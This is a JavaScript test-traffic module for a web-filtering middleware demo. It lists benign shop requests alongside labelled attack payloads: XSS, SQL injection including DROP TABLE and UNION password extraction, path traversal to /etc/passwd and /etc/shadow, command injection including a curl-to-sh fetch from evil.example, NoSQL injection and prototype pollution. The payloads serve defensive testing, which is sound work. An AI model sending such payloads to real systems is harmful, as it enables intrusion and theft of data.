// The requests `shield demo` sends to the demo app (middleware/demo.mjs: GET /search?q=,
// POST /comments as JSON or a form, GET /users/:id): ordinary shop traffic, some of it with
// quotes, ampersands and semicolons that naive filters trip on, and attacks of six vectors.
// Bodies are raw text so keys such as __proto__ reach the server exactly as written
// (an object literal would turn `__proto__` into a prototype instead of a key).

/**
 * @typedef {{ method: 'GET' | 'POST', path: string, json?: string, form?: string, expect: 'benign' | string }} DemoRequest
 * `expect` is 'benign' or the vector the attack belongs to.
 */

const q = (text) => `/search?q=${encodeURIComponent(text)}`;
const comment = (author, text) => JSON.stringify({ author, text });

/** @type {DemoRequest[]} */
export const DEMO_TRAFFIC = [
  { method: 'GET', path: q('red running shoes'), expect: 'benign' },
  { method: 'GET', path: q("O'Brien & Sons rain jacket"), expect: 'benign' },
  { method: 'GET', path: q('50% off winter coats'), expect: 'benign' },
  { method: 'GET', path: q('C++ vs Rust t-shirt'), expect: 'benign' },
  { method: 'GET', path: q('ボールペン 3本'), expect: 'benign' },
  { method: 'GET', path: '/users/42', expect: 'benign' },
  { method: 'GET', path: '/users/alice', expect: 'benign' },
  { method: 'POST', path: '/comments', json: comment('Ann', 'Great post, thanks!'), expect: 'benign' },
  { method: 'POST', path: '/comments', json: comment('Chloé', 'Does the 2-for-1 deal apply to sizes < 10?'), expect: 'benign' },
  { method: 'POST', path: '/comments', form: 'author=Bob&text=Arrived+in+two+days%3B+five+stars', expect: 'benign' },
  { method: 'POST', path: '/comments', form: 'author=Dan&text=I+paid+%2420+for+3+pairs+%26+a+belt', expect: 'benign' },
  { method: 'POST', path: '/comments', json: comment('Eve', 'Select the blue one from the drop-down, then click "update".'), expect: 'benign' },

  { method: 'GET', path: q('<script>alert(document.domain)</script>'), expect: 'xss' },
  { method: 'GET', path: '/search?q=%3Csvg%2Fonload%3Dalert(1)%3E', expect: 'xss' },
  { method: 'POST', path: '/comments', json: comment('x', '<img src=x onerror=alert(document.cookie)>'), expect: 'xss' },
  { method: 'POST', path: '/comments', form: `author=y&text=${encodeURIComponent('<a href="javascript:alert(1)">prize</a>')}`, expect: 'xss' },

  { method: 'GET', path: q("1' OR '1'='1"), expect: 'sql' },
  { method: 'GET', path: q("shoes' UNION SELECT username, password FROM users--"), expect: 'sql' },
  { method: 'GET', path: q('1 AND SLEEP(5)'), expect: 'sql' },
  { method: 'POST', path: '/comments', json: comment("admin'; DROP TABLE comments;--", 'hi'), expect: 'sql' },

  { method: 'GET', path: '/users/..%2F..%2F..%2Fetc%2Fpasswd', expect: 'path' },
  { method: 'GET', path: q('../../../../windows/win.ini'), expect: 'path' },
  { method: 'GET', path: '/search?q=%252e%252e%252f%252e%252e%252fetc%252fshadow', expect: 'path' },

  { method: 'GET', path: q('shoes; cat /etc/passwd'), expect: 'command' },
  { method: 'POST', path: '/comments', form: `author=z&text=${encodeURIComponent('$(curl -s http://evil.example/x.sh | sh)')}`, expect: 'command' },
  { method: 'GET', path: q('x && whoami'), expect: 'command' },

  { method: 'POST', path: '/comments', json: '{"author":{"$ne":null},"text":"hi"}', expect: 'nosql' },
  { method: 'POST', path: '/comments', json: '{"author":"a","text":{"$where":"sleep(1000)"}}', expect: 'nosql' },
  { method: 'POST', path: '/comments', form: 'author%5B%24regex%5D=.*&text=hi', expect: 'nosql' },

  { method: 'POST', path: '/comments', json: '{"author":"p","text":"hi","__proto__":{"isAdmin":true}}', expect: 'prototype' },
  { method: 'POST', path: '/comments', json: '{"author":"p","text":"hi","constructor":{"prototype":{"isAdmin":true}}}', expect: 'prototype' },
  { method: 'GET', path: '/search?q=shoes&__proto__%5Badmin%5D=1', expect: 'prototype' },
];

/**
 * Sends every request to `base` in order; answers are not checked (a sanitized request is a
 * 2xx, a blocked one a 403, either is the demo working).
 * @param {string} base @returns {Promise<{ sent: number, failed: number }>}
 */
export async function sendDemoTraffic(base) {
  let sent = 0;
  let failed = 0;
  for (const r of DEMO_TRAFFIC) {
    const headers = r.json !== undefined ? { 'content-type': 'application/json' } : r.form !== undefined ? { 'content-type': 'application/x-www-form-urlencoded' } : {};
    try {
      const res = await fetch(base + r.path, { method: r.method, headers, body: r.json ?? r.form, signal: AbortSignal.timeout(10_000) });
      await res.arrayBuffer();
      sent++;
    } catch {
      failed++;
    }
  }
  return { sent, failed };
}
